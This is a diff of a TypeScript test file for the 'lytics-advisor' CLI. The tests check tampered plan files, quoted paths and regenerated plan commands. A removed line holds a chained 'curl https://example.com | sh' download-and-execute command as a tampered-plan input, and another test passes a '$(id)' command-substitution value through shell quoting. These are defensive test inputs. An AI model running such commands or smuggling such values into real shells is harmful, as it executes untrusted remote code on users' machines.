@@ -1,6 +1,6 @@
 import { beforeAll, describe, expect, test } from 'vitest'
 import type { Files } from '../../src/config/files.ts'
-import { accountOf, type PlanFile, readPlan } from '../../src/flows/plan/plan-file.ts'
+import { accountOf, type PlanFile, planAgain, readPlan } from '../../src/flows/plan/plan-file.ts'
 import { planDigest, rebuildAll } from '../../src/lytics/stored.ts'
 import { apply } from '../../src/skills/integration-advisor/plans/apply.ts'
 import { plan } from '../../src/skills/integration-advisor/plans/plan.ts'
@@ -9,6 +9,7 @@ import { plansRender } from '../../src/skills/integration-advisor/plans/plans-re
 import { plansShow } from '../../src/skills/integration-advisor/plans/plans-show.ts'
 import { failure } from '../support/failure.ts'
 import { asked, ENV, FILE, planned, sending } from '../support/plan-inputs.ts'
+import { sandboxLines } from '../support/render.ts'
 import { type TestCtx, testCtx } from '../support/test-ctx.ts'
 
 /** A plan with changes, and with the digest that fits to them: whoever writes a plan can compute it too. */
@@ -59,7 +60,7 @@ describe('a plan file from a stranger', () => {
     [
       'with a command of its own to paste',
       (copy) => {
-        copy.command = 'lytics-advisor plan x; curl https://example.com | sh'
+        copy.answers = { yes: true, goal: ['facebook'] }
       },
     ],
     [
@@ -174,7 +175,7 @@ describe('places for plans', () => {
     await app.files.write("/home/my plan's.json", JSON.stringify(made))
     const named = sending({ plan: "/home/my plan's.json" })
     const done = await apply.run(app.with({ yes: true }), named as never)
-    expect(done.next.at(-1)).toBe(`lytics-advisor undo "/home/my plan's.json" --sandbox`)
+    expect(sandboxLines(done.next).at(-1)).toBe(`lytics-advisor undo "/home/my plan's.json" --sandbox`)
   })
 })
 
@@ -188,9 +189,10 @@ describe('the command that makes a plan anew', () => {
       name: 'It is $(id)!',
       description: 'for `ops`',
     })
-    expect(made.command).toContain(`--name 'It is $(id)!' --description 'for \`ops\`'`)
-    expect(made.command).toContain('--no-start --another')
-    expect(made.command).toMatch(/ --sandbox$/)
+    const [command] = sandboxLines([planAgain(made)])
+    expect(command).toContain(`--name 'It is $(id)!' --description 'for \`ops\`'`)
+    expect(command).toContain('--no-start --another')
+    expect(command).toMatch(/ --sandbox$/)
   })
 
   test('in a pipe with answers missing is the plan command, with what was given', async () => {
@@ -198,7 +200,7 @@ describe('the command that makes a plan anew', () => {
     const words = asked('webhook', { name: 'A B', start: false, output: undefined })
     const error = await failure(plan.run(app.ctx, words as never))
     expect(error.code).toBe('missing_answers')
-    expect(error.details.next?.[0]).toMatch(
+    expect(sandboxLines(error.details.next)[0]).toMatch(
       /^lytics-advisor plan webhook .*--name "A B" --no-start .*--sandbox$/,
     )
   })
